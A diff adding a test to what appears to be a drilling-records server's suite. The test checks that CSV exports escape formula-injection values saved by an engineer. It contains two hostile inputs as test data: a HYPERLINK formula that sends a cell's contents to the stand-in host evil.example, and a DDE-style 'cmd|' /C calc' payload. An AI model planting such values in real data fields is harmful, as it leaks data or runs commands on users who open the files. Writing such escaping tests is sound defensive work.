@@ -34,3 +34,25 @@ test("a partial inline export says so; the streaming download holds every row; U
   assert.equal(refused.status, 403);
   assert.equal((await refused.json()).message, "权限不足：用户角色 USER 无权访问工具 export_all_data");
 });
+
+test("a formula saved by an ENGINEER comes back escaped from every CSV the server writes (over HTTP)", async () => {
+  const formula = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")';
+  const engineer = identity("ENGINEER");
+  const wells = await restCall(server.url, engineer, "list_wells", { limit: 1 });
+  const wellId = JSON.stringify(wells.body).match(/"well_id":"([^"]+)"/)![1];
+  const saved = await restCall(server.url, engineer, "add_drilling_record", {
+    well_id: wellId, report_date: "2031-01-02", main_work: formula, lithology: "@SUM(1+1)*cmd|' /C calc'!A0",
+  });
+  assert.equal(saved.status, 200, JSON.stringify(saved.body));
+  const res = await fetch(`${server.url}/export/drilling_daily.csv`, { headers: identity("ADMIN") });
+  const csv = await res.text();
+  const inline = (await restCall(server.url, identity("ADMIN"), "export_all_data", { max_rows: 50000 })).body.content[0].resource.text as string;
+  for (const [where, text] of [["/export/drilling_daily.csv", csv], ["export_all_data", inline]]) {
+    const line = text.split("\r\n").find((l) => l.includes("evil.example"));
+    assert.ok(line, where);
+    assert.ok(line.includes(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""点击查看"")"`), `${where}: ${line}`);
+    assert.ok(line.includes(`,'@SUM(1+1)*cmd|' /C calc'!A0,`), `${where}: ${line}`);
+    // No cell of the file starts a formula: every field is checked, quoted or not.
+    for (const l of text.split("\r\n")) assert.doesNotMatch(l, /(^|,)"?[=+@\t]/, `${where}: ${l}`);
+  }
+});
